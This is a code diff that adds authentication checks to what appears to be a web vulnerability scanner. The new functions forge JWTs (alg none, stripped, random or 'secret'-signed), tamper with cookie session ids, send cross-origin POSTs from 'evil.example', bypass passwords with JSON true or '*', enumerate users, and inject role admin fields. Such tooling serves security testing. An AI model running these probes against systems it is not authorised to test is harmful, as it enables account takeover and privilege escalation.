@@ -8,6 +8,9 @@ Each attack returns the evidence (a short string) when it worked, else None.
 
 from __future__ import annotations
 
+import base64
+import hashlib
+import hmac
 import json
 import random
 import re
@@ -261,6 +264,121 @@ async def jsonp(request: Request, point: str, sinks: tuple[Request, ...] = ()) -
     return f"{name}() opens the script" if script and hit.text.lstrip("/*").startswith(f"{name}();") else None
 
 
+# ---------------------------------------------------------------------- authentication
+def _b64url(data: bytes) -> str:
+    return base64.urlsafe_b64encode(data).decode("ascii").rstrip("=")
+
+
+_TOKEN = re.compile(r"^(?:Bearer )?(e[w-z3][\w-]*)\.(e[w-z3][\w-]*)\.([\w-]*)$")
+
+
+async def jwt(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
+    """A token without a valid signature (alg none, stripped, random, re-signed with 'secret') answered
+    like the genuine one, while no token at all is refused."""
+    found = parse(request).get(point)
+    if "_JWT" in point:  # the token's own point and its claims: lunge attacks the value that carries it
+        return None
+    match = _TOKEN.match(found.value) if found is not None else None
+    if match is None or found is None:
+        return None
+    head, body, _ = match.groups()
+    prefix = found.value[: match.start(1)]
+    base = await send(request)
+    if (await send(inject(request, point, prefix + "nothing", append=False))).same_as(base):
+        return None
+    claims = json.loads(base64.urlsafe_b64decode(body + "=" * (-len(body) % 4)))
+    extra = _b64url(json.dumps({**claims, "x": 1}).encode())
+    resigned = hmac.new(b"secret", f"{head}.{extra}".encode(), hashlib.sha256).digest()
+    forged = {
+        "alg none": f"{_b64url(json.dumps({'alg': 'none', 'typ': 'JWT'}).encode())}.{body}.",
+        "stripped signature": f"{head}.{body}.",
+        "random signature": f"{head}.{body}.{_b64url(random.randbytes(32))}",
+        "re-signed with 'secret'": f"{head}.{extra}.{_b64url(resigned)}",
+    }
+    for name, token in forged.items():
+        if (await send(inject(request, point, prefix + token, append=False))).same_as(base):
+            return f"{name} accepted"
+    return None
+
+
+async def session_forgery(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
+    """A numeric id inside JSON inside a cookie, changed to its neighbour: another user's page."""
+    found = parse(request).get(point)
+    if found is None or not found.value.isdigit() or "COOKIE_" not in point or "JSON_DOC" not in point:
+        return None
+    base = await send(request)
+    other = await send(inject(request, point, str(int(found.value) + 1), append=False))
+    garbage = await send(inject(request, point, "987654321", append=False))
+    if other.status == 200 and not other.same_as(base) and not other.same_as(garbage):
+        return f"id {int(found.value) + 1} served another page"
+    return None
+
+
+async def csrf(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
+    """A cookie-authenticated POST sent with a foreign Origin and Referer, carried out as recorded;
+    without cookies it is refused."""
+    if point != "URI_value" or request.method != "POST" or "cookie" not in request.headers:
+        return None
+    base = await send(request)
+    anonymous = await send(request.with_headers(request.headers.remove("Cookie")))
+    foreign = request.headers.add("Origin", "https://evil.example").add("Referer", "https://evil.example/")
+    cross = await send(request.with_headers(foreign))
+    return "accepted from https://evil.example" if cross.same_as(base) and not anonymous.same_as(base) else None
+
+
+async def auth_bypass(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
+    """A JSON ``true`` or a wildcard in place of a password answered like the real one, while a wrong
+    password is refused."""
+    if not point.endswith("_password_value"):
+        return None
+    base = await send(request)
+    if (await send(inject(request, point, "wrong-password-x", append=False))).same_as(base):
+        return None
+    points = parse(request)
+    for value, raw in (("true", True), ("*", False)):
+        if (await send(points.replace(point, value, raw=raw))).same_as(base):
+            return f"password {value} accepted"
+    return None
+
+
+async def user_enumeration(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
+    """The recorded username and an unknown one, both with a wrong password, answered differently."""
+    points = parse(request)
+    found = points.get(point)
+    password = point.rsplit("_", 2)[0] + "_password_value"
+    if found is None or not point.endswith(("_username_value", "_email_value")) or points.get(password) is None:
+        return None
+    known = await send(points.replace_many({point: found.value, password: "wrong-password-x"}))
+    unknown = await send(points.replace_many({point: "nobody-zq81", password: "wrong-password-x"}))
+    return None if known.same_as(unknown) else f"{known.status} for the user, {unknown.status} for nobody"
+
+
+async def mass_assignment(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
+    """``role: admin`` added to a JSON update comes back in the answer (and a random field does not)."""
+    if point != "URI_value" or request.method not in ("POST", "PUT", "PATCH") or "json" not in request.content_type:
+        return None
+    try:
+        body = json.loads(request.body)
+    except ValueError:
+        return None
+    if not isinstance(body, dict) or "role" in body:
+        return None
+    sent = await send(request.with_body(json.dumps({**body, "role": "admin", "zq81": "x"}).encode()))
+    return "role=admin bound" if '"role": "admin"' in sent.text and "zq81" not in sent.text else None
+
+
+async def broken_access(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
+    """A privilege-named flag raised from 0 to 1 (or user to admin) shows more than the normal page."""
+    found = parse(request).get(point)
+    words = ("admin", "role", "staff")
+    if found is None or not any(w in point.lower() for w in words) or found.value not in ("0", "false", "user"):
+        return None
+    base = await send(request)
+    raised = {"0": "1", "false": "true", "user": "admin"}[found.value]
+    hit = await send(inject(request, point, raised, append=False))
+    return f"{raised} shows more" if hit.status == 200 and len(hit.text) > len(base.text) + 20 else None
+
+
 BY_CHECK: dict[str, tuple[Attack, ...]] = {
     "sqli": (sqli_error, sqli_boolean, sqli_time, sqli_status),
     "nosqli": (nosqli,),
@@ -276,6 +394,13 @@ BY_CHECK: dict[str, tuple[Attack, ...]] = {
     "code-injection": (code_output, code_time),
     "crlf": (crlf,),
     "xss-jsonp": (jsonp,),
+    "jwt": (jwt,),
+    "session-forgery": (session_forgery,),
+    "csrf": (csrf,),
+    "auth-bypass": (auth_bypass,),
+    "user-enumeration": (user_enumeration,),
+    "mass-assignment": (mass_assignment,),
+    "broken-access": (broken_access,),
 }
 SQLI_BY_TECHNIQUE: dict[str, Attack] = {"error": sqli_error, "boolean": sqli_boolean, "time": sqli_time,
                                         "status": sqli_status}
